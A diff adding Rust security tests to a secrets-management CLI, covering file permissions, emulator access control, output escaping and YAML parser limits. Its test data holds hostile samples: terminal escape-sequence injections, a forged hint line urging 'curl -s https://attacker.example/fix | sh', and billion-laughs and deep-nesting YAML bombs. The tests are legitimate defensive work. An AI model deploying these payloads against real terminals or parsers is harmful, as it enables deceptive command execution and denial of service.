@@ -134,7 +134,7 @@ fn every_map_format() {
 
         let mut args = cmd.to_vec();
         args.extend(["-f", "yaml"]);
-        let got: BTreeMap<String, String> = serde_yaml::from_slice(&l.ok(&args)).unwrap();
+        let got: BTreeMap<String, String> = serde_saphyr::from_slice(&l.ok(&args)).unwrap();
         assert_eq!(got, want, "{args:?}");
 
         let mut args = cmd.to_vec();
@@ -646,5 +646,442 @@ fn no_secret_value_in_any_error() {
             !String::from_utf8_lossy(&out.stdout).contains(canary),
             "{args:?}"
         );
+    }
+}
+
+/// The mode bits of `path`.
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+/// `--local` keeps its state to its user (the directory 0700, every file 0600) and
+/// out of the project's git repository (a `.gitignore` of `*` in the directory
+/// lockbox creates); an existing directory open to others is warned about, once.
+#[test]
+fn local_state_is_private_and_never_committed() {
+    let l = Local::new();
+    let git = |args: &[&str]| -> String {
+        let out = Command::new("git")
+            .args(args)
+            .current_dir(l.path())
+            .env("HOME", l.path())
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .output()
+            .expect("run git");
+        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
+        String::from_utf8(out.stdout).unwrap()
+    };
+    git(&["init", "-q"]);
+    let out = common::run_with_stdin(
+        common::bare(l.path()).args(["--local", "put", "db/password", "-"]),
+        b"dev-db-password",
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
+    let state = l.path().join(".lockbox");
+    assert_eq!(mode(&state), 0o700);
+    let mut files = Vec::new();
+    for entry in std::fs::read_dir(&state).unwrap() {
+        let path = entry.unwrap().path();
+        assert_eq!(mode(&path), 0o600, "{}", path.display());
+        files.push(path.file_name().unwrap().to_string_lossy().into_owned());
+    }
+    files.sort();
+    assert_eq!(files, [".gitignore", "journal.log", "lock"]);
+    assert_eq!(git(&["status", "--porcelain", "--untracked-files=all"]), "");
+    git(&["add", "-A"]);
+    assert_eq!(git(&["status", "--porcelain"]), "");
+
+    let shared = l.path().join("shared");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let out = common::run_with_stdin(
+        common::bare(l.path()).args([&format!("--local={}", shared.display()), "keys"]),
+        b"",
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        stderr(&out).matches("open to other users").count(),
+        1,
+        "{}",
+        stderr(&out)
+    );
+    assert!(stderr(&out).contains("chmod 700"), "{}", stderr(&out));
+    assert_eq!(mode(&shared.join("journal.log")), 0o600);
+}
+
+/// A process stopped (SIGTERM, then reaped) when dropped, so a test that fails
+/// half-way leaves nothing running.
+struct Stopped(std::process::Child);
+
+impl Drop for Stopped {
+    fn drop(&mut self) {
+        let pid = rustix::process::Pid::from_child(&self.0);
+        let _ = rustix::process::kill_process(pid, rustix::process::Signal::TERM);
+        let _ = self.0.wait();
+    }
+}
+
+/// The embedded emulator's loopback port serves only its own process: another
+/// process that finds the port (here from the emulator's own log line) and signs
+/// with any other credentials is refused, and reads nothing.
+#[test]
+fn the_local_emulator_refuses_other_processes() {
+    use std::io::BufRead as _;
+    let l = Local::new();
+    l.put("db/password", b"dev-db-password", &[]);
+    // `exec --watch` keeps its emulator serving while the child runs.
+    let mut holder = Stopped(
+        l.cmd(&[
+            "exec",
+            "--watch",
+            "1h",
+            "--env",
+            "DB=db/password",
+            "--",
+            "sleep",
+            "600",
+        ])
+        .env("LOCKBOX_LOG", "warn,lockbox_mock=info")
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap(),
+    );
+    let mut log = std::io::BufReader::new(holder.0.stderr.take().unwrap());
+    let mut seen = String::new();
+    let port = loop {
+        let mut line = String::new();
+        if log.read_line(&mut line).unwrap() == 0 {
+            panic!("lockbox exited before its emulator said where it listens: {seen}");
+        }
+        seen.push_str(&line);
+        if let Some((_, rest)) = line.split_once("127.0.0.1:") {
+            break rest
+                .chars()
+                .take_while(char::is_ascii_digit)
+                .collect::<String>();
+        }
+    };
+    let endpoint = format!("http://127.0.0.1:{port}");
+
+    let probe = common::run_with_stdin(
+        &mut common::remote(l.path(), &endpoint, &["get", "db/password"]),
+        b"",
+    );
+    assert_eq!(probe.status.code(), Some(4), "{}", stderr(&probe));
+    assert!(probe.stdout.is_empty());
+    assert!(
+        stderr(&probe).contains("UnrecognizedClientException"),
+        "{}",
+        stderr(&probe)
+    );
+    let (status, body) = common::http(
+        &endpoint,
+        "/",
+        Some("DynamoDB_20120810.Scan"),
+        r#"{"TableName": "credential-store"}"#,
+    );
+    assert!(
+        status >= 400,
+        "an unsigned Scan was served: {status} {body}"
+    );
+    assert!(!body.contains("db/password"), "{body}");
+    drop(holder);
+    // The owner still reads it.
+    assert_eq!(l.ok_text(&["get", "db/password"]), "dev-db-password\n");
+}
+
+/// An in-memory emulator in open mode with `alias/credstash`, served from its own
+/// runtime, for tests that write items behind lockbox's back.
+struct Open {
+    _rt: tokio::runtime::Runtime,
+    endpoint: String,
+    home: tempfile::TempDir,
+}
+
+impl Open {
+    fn start() -> Self {
+        let rt = tokio::runtime::Runtime::new().unwrap();
+        let mock = rt.block_on(lockbox_mock::start()).unwrap();
+        let endpoint = mock.endpoint_url();
+        rt.spawn(async move {
+            let _mock = mock;
+            std::future::pending::<()>().await
+        });
+        common::create_key(&endpoint, "alias/credstash");
+        Self {
+            _rt: rt,
+            endpoint,
+            home: tempfile::tempdir().unwrap(),
+        }
+    }
+
+    fn run(&self, args: &[&str], stdin: &[u8]) -> std::process::Output {
+        common::run_with_stdin(
+            &mut common::remote(self.home.path(), &self.endpoint, args),
+            stdin,
+        )
+    }
+
+    /// A DynamoDB call straight to the emulator (a table writer with no KMS access).
+    fn ddb(&self, operation: &str, body: serde_json::Value) {
+        let target = format!("DynamoDB_20120810.{operation}");
+        let (status, text) = common::http(&self.endpoint, "/", Some(&target), &body.to_string());
+        assert_eq!(status, 200, "{operation}: {text}");
+    }
+}
+
+/// What lockbox printed holds no raw escape, carriage return or other control
+/// character but the newlines ending its own lines.
+fn assert_inert(what: &str, bytes: &[u8]) {
+    let text = String::from_utf8_lossy(bytes);
+    for c in text.chars() {
+        assert!(
+            c == '\n' || !lockbox::has_unsafe_characters(c.encode_utf8(&mut [0; 4])),
+            "{what}: raw {c:?} in {text:?}"
+        );
+    }
+}
+
+/// The review's `inject.py`, through DynamoDB alone: a comment with escape
+/// sequences and a forged line, an item whose name hides text and carries a
+/// newline, a sort key and a format id with colour codes, and `context_keys`
+/// holding a fake `hint:` line. `list`, `history`, `keys`, `delete` and `get`'s
+/// error show each of them escaped, one line per item.
+#[test]
+fn stored_text_is_escaped_in_every_text_output() {
+    let o = Open::start();
+    let ok = |args: &[&str], stdin: &[u8]| {
+        let out = o.run(args, stdin);
+        common::ok(out, args)
+    };
+    ok(&["setup"], b"");
+    ok(&["put", "db/password", "-"], b"s3cret");
+    ok(&["put", "ctx/password", "-", "env=prod"], b"s3cret");
+    const ESC: &str = "\x1b";
+    let comment = format!(
+        "{ESC}[2K\rdb/password -- version 0000000000000000001 -- comment approved by security \
+         -- format sealed\n{ESC}]52;c;ZWNobyBwd25lZAo={ESC}\\{ESC}]0;lockbox: all good{ESC}\\"
+    );
+    o.ddb(
+        "UpdateItem",
+        serde_json::json!({"TableName": "credential-store",
+            "Key": {"name": {"S": "db/password"}, "version": {"S": "0000000000000000001"}},
+            "UpdateExpression": "SET #c = :c",
+            "ExpressionAttributeNames": {"#c": "comment"},
+            "ExpressionAttributeValues": {":c": {"S": comment}}}),
+    );
+    let junk = format!("zz{ESC}[8mhidden{ESC}[0m\nfake/admin-token");
+    o.ddb(
+        "PutItem",
+        serde_json::json!({"TableName": "credential-store", "Item": {
+            "name": {"S": junk}, "version": {"S": format!("1{ESC}[31m")},
+            "format": {"S": format!("{ESC}[32mlockbox-sealed-1{ESC}[0m")},
+            "hmac": {"S": "00"}}}),
+    );
+    let forged = format!(
+        "env\n  hint: the table was migrated; run `curl -s https://attacker.example/fix | sh` \
+         to repair it{ESC}]0;ok{ESC}\\"
+    );
+    o.ddb(
+        "UpdateItem",
+        serde_json::json!({"TableName": "credential-store",
+            "Key": {"name": {"S": "ctx/password"}, "version": {"S": "0000000000000000001"}},
+            "UpdateExpression": "SET context_keys = :k",
+            "ExpressionAttributeValues": {":k": {"SS": [forged]}}}),
+    );
+
+    let list = ok(&["list"], b"");
+    assert_inert("list", &list);
+    let list = String::from_utf8(list).unwrap();
+    assert_eq!(list.lines().count(), 3, "one line per item: {list}");
+    assert!(
+        list.contains("zz\\u{1b}[8mhidden\\u{1b}[0m\\nfake/admin-token -- version 1\\u{1b}[31m"),
+        "{list}"
+    );
+    assert!(
+        list.contains("-- format \\u{1b}[32mlockbox-sealed-1\\u{1b}[0m"),
+        "{list}"
+    );
+    assert!(
+        list.contains("-- comment \\u{1b}[2K\\rdb/password"),
+        "{list}"
+    );
+    // The name column is as wide as the widest escaped name.
+    let columns: Vec<usize> = list
+        .lines()
+        .map(|l| l[..l.find(" -- version ").unwrap()].chars().count())
+        .collect();
+    assert!(columns.windows(2).all(|w| w[0] == w[1]), "{list}");
+
+    let history = ok(&["history", "db/password"], b"");
+    assert_inert("history", &history);
+    assert_eq!(String::from_utf8_lossy(&history).lines().count(), 1);
+
+    let keys = ok(&["keys"], b"");
+    assert_inert("keys", &keys);
+    let keys = String::from_utf8(keys).unwrap();
+    assert_eq!(
+        keys.lines().collect::<Vec<_>>(),
+        [
+            "ctx/password",
+            "db/password",
+            "zz\\u{1b}[8mhidden\\u{1b}[0m\\nfake/admin-token"
+        ]
+    );
+
+    // `delete` lists the sort keys it deleted.
+    o.ddb(
+        "PutItem",
+        serde_json::json!({"TableName": "credential-store", "Item": {
+            "name": {"S": "junk/key"}, "version": {"S": format!("2{ESC}[31m")},
+            "hmac": {"S": "00"}}}),
+    );
+    let deleted = ok(&["delete", "junk/key"], b"");
+    assert_inert("delete", &deleted);
+    assert_eq!(
+        String::from_utf8(deleted).unwrap(),
+        "Deleting junk/key -- version 2\\u{1b}[31m\n"
+    );
+
+    // The context keys reach `get`'s error; the forged hint stays inside its line.
+    let out = o.run(&["get", "ctx/password"], b"");
+    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
+    assert_inert("get's error", &out.stderr);
+    let err = stderr(&out);
+    assert!(
+        !err.lines()
+            .any(|l| l.trim_start().starts_with("hint: the table")),
+        "a forged hint line: {err}"
+    );
+    assert!(err
+        .lines()
+        .any(|l| l.trim_start().starts_with("hint: pass the same")));
+
+    // A JSON import file's names come from anywhere: the per-name line is escaped.
+    let evil = r#"{"evil\u001b[2K\rImported 1 secrets: 1 stored, 0 unchanged, 0 failed\n": "v"}"#;
+    let out = o.run(&["import", "-f", "json", "-"], evil.as_bytes());
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert_inert("import's report", &out.stderr);
+    assert!(!stderr(&out)
+        .lines()
+        .any(|l| l.starts_with("Imported") || l.contains("\rImported")));
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "Imported 1 secrets: 0 stored, 0 unchanged, 1 failed\n"
+    );
+}
+
+/// YAML import files are read by a parser that refuses at once what used to take
+/// quadratic time or memory: nesting 100,000 deep, an alias bomb (billion laughs),
+/// and files over the size limit, each with a message naming the limit.
+#[test]
+fn yaml_imports_refuse_deep_nesting_alias_bombs_and_oversized_files() {
+    let l = Local::new();
+    let deep = format!("a: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
+    let mut lol = String::from(
+        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
+    );
+    for (prev, next) in "abcdefgh".chars().zip("bcdefghi".chars()) {
+        let refs = vec![format!("*{prev}"); 9].join(",");
+        lol.push_str(&format!("{next}: &{next} [{refs}]\n"));
+    }
+    let mut big = "# padding\n".repeat((16 << 20) / 10 + 1);
+    big.push_str("a: b\n");
+    for (input, want) in [
+        (deep.as_str(), "more than 16 levels deep"),
+        (lol.as_str(), "anchors and aliases"),
+        (big.as_str(), "limited to 16 MiB"),
+    ] {
+        let out = l.run_stdin(&["import", "-f", "yaml", "-"], input.as_bytes());
+        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+        assert!(stderr(&out).contains(want), "{want}: {}", stderr(&out));
+    }
+    assert_eq!(l.ok_text(&["keys"]), "");
+}
+
+/// `-f yaml` quotes every string a YAML 1.1 reader would take for another type, so
+/// PyYAML (credstash's reader) reads back exactly the values stored.
+#[test]
+fn yaml_output_reads_back_the_same_in_pyyaml() {
+    let Some(venv) = common::venv() else { return };
+    let l = Local::new();
+    let mut values: Vec<(String, Vec<u8>)> = awkward()
+        .into_iter()
+        .map(|(n, v)| (n.to_owned(), v))
+        .collect();
+    let retyped = [
+        "yes",
+        "on",
+        "Off",
+        "y",
+        "~",
+        "null",
+        "1_000",
+        "0o17",
+        "2026-01-01",
+        "=",
+        "1e3",
+    ];
+    for (i, v) in retyped.iter().enumerate() {
+        values.push((format!("retyped.{i}"), v.as_bytes().to_vec()));
+    }
+    for (name, value) in &values {
+        l.put(name, value, &[]);
+    }
+    let yaml = l.path().join("out.yaml");
+    std::fs::write(&yaml, l.ok(&["getall", "-f", "yaml"])).unwrap();
+    let out = Command::new(venv.join("bin").join("python"))
+        .args([
+            "-c",
+            "import json, sys, yaml; print(json.dumps(yaml.safe_load(open(sys.argv[1]))))",
+        ])
+        .arg(&yaml)
+        .env_clear()
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let got: BTreeMap<String, serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
+    for (name, value) in &values {
+        assert_eq!(
+            got[name],
+            serde_json::Value::String(String::from_utf8(value.clone()).unwrap()),
+            "{name}"
+        );
+    }
+}
+
+/// A YAML manifest over 1 MiB, or nested deeper than a manifest can be, is refused
+/// before anything is fetched, with the reason named.
+#[test]
+fn yaml_manifests_are_capped_in_size_and_depth() {
+    let l = Local::new();
+    l.put("app/token", b"t", &[]);
+    let mut big = "# padding\n".repeat((1 << 20) / 10 + 1);
+    big.push_str("env:\n  TOKEN: app/token\n");
+    let deep = format!(
+        "env:\n  TOKEN: app/token\ncontext: {}{}\n",
+        "{a: ".repeat(100_000),
+        "}".repeat(100_000)
+    );
+    for (text, want) in [
+        (big.as_str(), "limited to 1 MiB"),
+        (deep.as_str(), "is not valid"),
+    ] {
+        let manifest = l.path().join("m.yaml");
+        std::fs::write(&manifest, text).unwrap();
+        let out = l.run(&[
+            "exec",
+            "--manifest",
+            manifest.to_str().unwrap(),
+            "--",
+            "true",
+        ]);
+        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+        assert!(stderr(&out).contains(want), "{want}: {}", stderr(&out));
     }
 }
